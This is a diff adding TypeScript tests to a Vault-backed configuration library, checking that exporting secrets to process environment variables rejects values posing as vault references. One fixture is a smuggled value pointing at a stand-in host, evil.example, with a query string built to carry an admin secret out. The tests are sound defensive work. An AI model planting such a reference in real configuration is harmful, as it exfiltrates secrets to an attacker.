@@ -83,6 +83,42 @@ describe('config.exportToProcessEnv', () => {
     expect(added()).toEqual({});
   });
 
+  describe('of a value that an inheriting process would take for a reference', () => {
+    const HOSTILE = 'https://evil.example/?x=${vault:secret/data/admin#key}';
+    const low: VaultConfigOptions = { sources: [{ secretPath: 'low' }, 'flat'] };
+    beforeEach(() =>
+      bench.server.seed({ 'secret/admin': { key: 'ADMIN-KEY' }, 'secret/low': { WEBHOOK: 'https://a' } }),
+    );
+
+    it.each<[string, Record<string, unknown>, VaultConfigOptions]>([
+      ['all', { WEBHOOK: HOSTILE }, { exportToProcessEnv: true }],
+      ['a key that is listed', { WEBHOOK: ' vault:secret/data/admin#key' }, { exportToProcessEnv: ['WEBHOOK'] }],
+      ['objects as JSON', { WEBHOOK: [{ url: HOSTILE }] }, { exportToProcessEnv: ['WEBHOOK'] }],
+      ['precedence "env"', { WEBHOOK: HOSTILE }, { exportToProcessEnv: true, precedence: 'env' }],
+      ['literal keys', { WEBHOOK: HOSTILE }, { exportToProcessEnv: true, references: { literal: ['WEBHOOK'] } }],
+      ['no references', { WEBHOOK: HOSTILE }, { exportToProcessEnv: true, references: false }],
+    ])('stops the boot: %s', async (_, secret, config) => {
+      await bench.server.seed({ 'secret/low': secret });
+      const error = await start({ ...low, ...config }).then(
+        () => undefined,
+        (thrown: Error) => thrown,
+      );
+      expect(error).toMatchObject({ code: 'VAULT_CONFIGURATION' });
+      expect(error?.message).toContain('"WEBHOOK" holds a text');
+      expect(error?.message).not.toMatch(/admin|evil/);
+      expect(added()).toEqual({});
+    });
+
+    it('keeps the last good values at a refresh', async () => {
+      const app = await start({ ...low, exportToProcessEnv: ['WEBHOOK'] });
+      await bench.server.seed({ 'secret/low': { WEBHOOK: HOSTILE } });
+      const { problems } = await app.get(VaultService).refresh();
+      expect(JSON.stringify(problems.map(({ message }) => message))).toContain('WEBHOOK');
+      expect(process.env['WEBHOOK']).toBe('https://a');
+      expect(app.get(ConfigService).get('WEBHOOK')).toBe('https://a');
+    });
+  });
+
   it('writes nothing unless it is asked to', async () => {
     await start(flat);
     await start({ ...flat, exportToProcessEnv: false });
